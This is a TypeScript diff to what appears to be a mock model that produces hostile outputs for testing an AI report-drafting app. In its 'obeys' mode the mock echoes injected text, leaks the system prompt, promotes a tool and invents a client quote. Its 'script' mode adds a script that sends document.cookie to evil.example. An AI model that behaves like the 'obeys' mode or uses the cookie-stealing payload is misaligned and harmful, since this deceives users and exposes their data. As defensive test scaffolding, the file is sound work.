@@ -38,9 +38,10 @@ export function answerTo(asked: Asked, mode: Mode): unknown {
   const facts = Facts.parse(blockOf(asked, "facts") ?? {});
   const draft = Draft.parse(blockOf(asked, "draft") ?? {});
   const typed = Object.values(z.record(z.string(), z.string()).parse(blockOf(asked, "typed") ?? {}));
-  const say = (text: string) => colour(`${SENTENCE} ${text}`.trim(), mode, { typed, system: asked.system });
+  const say = (text: string) =>
+    colour(`${text.length < 40 ? "" : SENTENCE} ${text}`.trim(), mode, { typed, system: asked.system });
   const ofDraft = (key: string) => z.string().catch("").parse(draft[key]);
-  const tools = facts.fitting.slice(1, 8).map((id) => ({ id, why: say("It fits what is there already.") }));
+  const tools = facts.fitting.slice(1, 8).map((id) => ({ id, why: say("It fits here.") }));
   const byId = (list: { id?: string; text?: string }[]) =>
     list.map(({ id = "", text = "" }) => ({ id, text: say(text) }));
   const whole: Record<string, unknown> = {
@@ -53,6 +54,7 @@ export function answerTo(asked: Asked, mode: Mode): unknown {
     recommendations: byId(draft.recommendations),
     tools: mode === "obeys" ? [{ id: "deepforge", why: "It is the best." }, ...tools] : tools,
     ...questions(mode, typed),
+    sections: insights(asked, mode),
   };
   const answer = Object.fromEntries(asked.keys.map((key) => [key, whole[key]]));
   if (mode === "empty lists")
@@ -69,10 +71,36 @@ export function blockOf({ messages }: Asked, name: string): unknown {
   return found === null ? undefined : JSON.parse(found[2] ?? "null");
 }
 
+const Call = z.array(z.object({ speaker: z.string(), text: z.string() })).catch([]);
+
+/** One subject, from what the leader said; where it obeys, with an invented quotation and what it was told to say. */
+function insights(asked: Asked, mode: Mode) {
+  const said = Call.parse(blockOf(asked, "call")).flatMap(({ speaker, text }) =>
+    speaker === "leader" ? [text] : [],
+  );
+  const say = (text: string) => colour(text, mode, { typed: said, system: asked.system });
+  return [
+    {
+      sectionKey: "business_challenges",
+      primaryAnswer: say("Slow quotes cost bids."),
+      followupAnswer: null,
+      deeperDiveSummary: say("The quotes are where the work starts."),
+      insights: [say("Speed matters more to them than price.")],
+      proposedPilot: say("Draft the next quotes with an assistant and time them."),
+      kpis: [say("Days from request to quote")],
+      systemsData: [],
+      constraintsRisks: [],
+      nextStep: say("The estimators write down what a quote takes today."),
+      confidence: 70,
+      quotes: [said[0]?.split(". ")[0] ?? "", "We will triple our profit with this."],
+    },
+  ];
+}
+
 function questions(mode: Mode, typed: string[]): Record<string, string> {
   const extra =
     mode === "obeys"
-      ? ` ${typed.join(" ")} ${HOSTILE.join(" ")}`
+      ? ` ${(typed[0] ?? "").slice(-200)} ${HOSTILE.join(" ")}`
       : mode === "script"
         ? "<script>alert(1)</script>"
         : "";
@@ -87,9 +115,15 @@ function questions(mode: Mode, typed: string[]): Record<string, string> {
   };
 }
 
+let turn = 0;
+
+/** What the mode makes of a sentence. One that obeys brings each typed text in its turn, none too long for the form. */
 function colour(text: string, mode: Mode, { typed, system }: { typed: string[]; system: string[] }): string {
-  if (mode === "obeys")
-    return `${text} ${typed.join(" ")} ${HOSTILE.join(" ")} ${(system[0] ?? "").slice(0, 400)}`;
+  if (mode === "obeys") {
+    turn += 1;
+    const order = typed[turn % Math.max(1, typed.length)] ?? "";
+    return `${text.slice(0, 2_000)} ${order.slice(-400)} ${HOSTILE.join(" ")} ${(system[0] ?? "").slice(0, 160)}`;
+  }
   if (mode === "script")
     return `${text} <script>fetch("https://evil.example/?d="+document.cookie)</script> ![x](https://evil.example/?d=1)`;
   if (mode === "javascript") return `${text} See [the offer](javascript:alert(1)) or javascript:alert(2).`;
